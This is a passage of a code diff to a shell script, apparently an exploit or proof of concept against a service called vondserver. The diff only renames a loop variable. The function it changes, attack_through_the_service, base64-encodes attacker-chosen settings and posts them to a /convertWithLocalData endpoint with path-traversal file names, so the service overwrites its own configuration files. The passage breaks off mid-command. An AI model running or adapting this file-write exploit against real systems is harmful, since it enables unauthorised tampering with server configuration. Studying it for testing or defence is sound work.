@@ -58,10 +58,10 @@ json() {
 
 # The service writes: the input file, an option's file, a file among the arguments, an upload.
 attack_through_the_service() {
-    local place name data
+    local file name data
     data=$(printf '%s' "$settings_of_the_attacker" | base64 --wrap=0)
-    for place in "${settings_places[@]}"; do
-        for name in "../../../..$place" "../${place#/var/lib/vondserver/}"; do
+    for file in "${settings_places[@]}"; do
+        for name in "../../../..$file" "../${file#/var/lib/vondserver/}"; do
             ask --output /dev/null --data "{\"fileName\": \"$name\", \"imgData\": \"$data\", \"configuration\": \"x\"}" \
                 "$address/convertWithLocalData"
             ask --output /dev/null --data "{\"fileName\": \"x\", \"imgData\": \"\", \"configuration\": \"x\",
